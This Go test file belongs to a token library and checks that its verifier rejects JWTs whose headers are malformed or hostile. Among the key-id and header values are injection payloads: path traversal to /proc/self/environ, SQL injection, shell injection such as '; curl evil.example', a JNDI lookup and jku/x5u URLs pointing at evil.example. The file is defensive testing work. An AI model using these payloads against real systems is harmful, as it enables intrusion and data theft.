package token_test

import (
	"fmt"
	"strings"

	"github.com/lostkey-go/lostkey/token"
)

// headerAttacks have the victim's claims and a good MAC. Only the header is not
// what our keys write.
func headerAttacks(v victim) []attack {
	f := family{name: "header"}
	for _, header := range headers() {
		f.add(token.ReasonUnknownKey, abridged(header),
			seal(v.key, header, v.claims()))
	}

	// A key id that makes the token over-long.
	f.add(token.ReasonMalformed, "1,000 characters of kid",
		seal(v.key, headerOf(repeat("k", 1000), token.PurposeReset),
			v.claims()))
	f.add(token.ReasonUnknownKey, "not JSON, well signed",
		seal(v.key, "reset", v.claims()))
	f.add(token.ReasonWrongPurpose, "of purpose invite, MAC of purpose reset",
		seal(v.key, headerOf(keyID, token.PurposeInvite), v.claims()))
	return f.attacks
}

// headers returns all but one header. $a, $k and $t stand for the members of
// our own.
func headers() []string {
	var all []string
	all = append(all, respeltHeaders()...)
	for _, value := range typValues() {
		all = append(all, `{$a,$k,"typ":`+value+`}`)
	}
	for _, value := range kidValues() {
		all = append(all, `{$a,"kid":`+value+`,$t}`)
	}
	for _, member := range headerExtensions() {
		all = append(all, `{$a,$k,$t,`+member+`}`)
	}

	members := strings.NewReplacer("$a", `"alg":"HS256"`,
		"$k", `"kid":"`+keyID+`"`, "$t", `"typ":"reset+jwt"`)
	for i := range all {
		all[i] = members.Replace(all[i])
	}
	return all
}

// respeltHeaders have our members, some of them, or almost.
func respeltHeaders() []string {
	return []string{
		`{$a}`, `{$a,$k}`, `{$a,$t}`, `{$k,$t}`, `{}`, `[]`, `null`, `1`,
		`"HS256"`,
		// order
		`{$a,$t,$k}`, `{$k,$a,$t}`, `{$k,$t,$a}`, `{$t,$a,$k}`, `{$t,$k,$a}`,
		// duplicates, first and last
		`{"alg":"none",$a,$k,$t}`, `{$a,"alg":"none",$k,$t}`, `{$a,$a,$k,$t}`,
		`{$a,"kid":"x",$k,$t}`, `{$a,$k,"kid":"x",$t}`,
		`{$a,$k,"typ":"JWT",$t}`, `{$a,$k,$t,"typ":"JWT"}`, `{$a,$k,$t,$t}`,
		// other case of a name
		`{"Alg":"HS256",$k,$t}`, `{"ALG":"HS256",$k,$t}`,
		`{$a,"KID":"` + keyID + `",$t}`, `{$a,$k,"Typ":"reset+jwt"}`,
		`{$a,"ALG":"none",$k,$t}`,
		// white space
		` {$a,$k,$t}`, `{$a,$k,$t} `, `{ $a,$k,$t}`, `{"alg": "HS256",$k,$t}`,
		"{$a,\n$k,$t}", "{$a,\t$k,$t}", "\ufeff{$a,$k,$t}",
		// almost JSON
		`{$a,$k,$t,}`, `{$a,$k,$t}}`, `{$a,$k,$t`, `{$a,$k,$t}{}`,
		`{'alg':'HS256',$k,$t}`, `{/**/$a,$k,$t}`, `{$a;$k;$t}`,
		"{$a,$k,$t}\x00", "{$a,\"kid\":\"" + keyID + "\xff\",$t}",
		// escapes
		`{"\u0061lg":"HS256",$k,$t}`, `{"alg":"HS25\u0036",$k,$t}`,
		`{$a,$k,"typ":"reset\u002bjwt"}`,
		`{$a,$k,"typ":"reset+jwt","x":` + repeat("[", 60) + repeat("]", 60) +
			`}`,
	}
}

func typValues() []string {
	return []string{
		`"JWT"`, `"jwt"`, `"RESET+JWT"`, `"reset+JWT"`, `"Reset+jwt"`,
		`"reset+jwt "`, `" reset+jwt"`, `"reset"`, `"+jwt"`, `"reset+jwt+jwt"`,
		`"application/reset+jwt"`, `"at+jwt"`, `"secevent+jwt"`, `"logout+jwt"`,
		`"dpop+jwt"`, `"reset-jwt"`, `"reset jwt"`, `"email-change+jwt"`,
		`"JOSE"`, `"JOSE+JSON"`, `""`, `null`, `0`, `true`, `["reset+jwt"]`,
		`{}`,
	}
}

// kidValues are other ids, and what would reach a file, a table or a shell.
func kidValues() []string {
	return []string{
		`null`, `""`, `0`, `202611`, `true`, `[]`, `["` + keyID + `"]`, `{}`,
		`"2026-12"`, `"2026-1"`, `"2026-11 "`, `" 2026-11"`, `"2026-11\u0000"`,
		`"2026‑11"`, `"../../../../../../dev/null"`, `"/dev/null"`,
		`"..\\..\\windows\\win.ini"`, `"file:///dev/null"`,
		`"/proc/self/environ"`, `"2026-11/../2026-11"`, `"' OR '1'='1"`,
		`"x' UNION SELECT 'key"`, `"1; DROP TABLE users"`, `"| sleep 10"`,
		`"; curl evil.example"`, `"$(id)"`, "\"`id`\"",
		`"${jndi:ldap://evil.example/a}"`, `"{{7*7}}"`,
		`"https://evil.example/key"`, `"//evil.example/key"`, `"*"`, `"%00"`,
		`"2026-11,2025-01"`, `"__proto__"`, `"constructor"`,
	}
}

// headerExtensions are members that other headers have.
func headerExtensions() []string {
	return []string{
		`"crit":[]`, `"crit":["exp"]`, `"crit":["b64"]`,
		`"crit":["b64"],"b64":false`, `"b64":false`, `"b64":true`,
		`"crit":["alg"]`, `"crit":"b64"`, `"crit":null`,
		`"crit":["http://example.com/unknown"]`, `"zip":"DEF"`, `"cty":"JWT"`,
		`"cty":"json"`, `"enc":"A256GCM"`, `"epk":{}`, `"apu":"x"`, `"apv":"x"`,
		`"p2c":1`, `"p2c":2147483647,"p2s":"x"`, `"iv":"x"`, `"tag":"x"`,
		`"jwk":{"kty":"oct","k":"AA"}`,
		`"jwk":{"kty":"RSA","n":"AQ","e":"AQAB"}`,
		`"jku":"https://evil.example/jwks.json"`, `"jku":"http://127.0.0.1/"`,
		`"x5u":"https://evil.example/cert.pem"`, `"x5c":["AA"]`, `"x5t":"AA"`,
		`"x5t#S256":"AA"`, `"url":"https://evil.example"`, `"nonce":"x"`,
		`"iss":"https://evil.example"`, `"sub":"admin"`, `"aud":"x"`, `"exp":1`,
		`"ppt":"shaken"`, `"svt":[]`, `"x":1`, `"":""`,
		`"__proto__":{"alg":"none"}`,
	}
}

// abridged makes a name for a test out of JSON.
func abridged(text string) string {
	name := strings.Trim(fmt.Sprintf("%+q", text), `"`)
	name = strings.ReplaceAll(name, `\"`, `"`)
	if len(name) > 110 {
		name = name[:70] + " … " + name[len(name)-35:]
	}
	return name
}
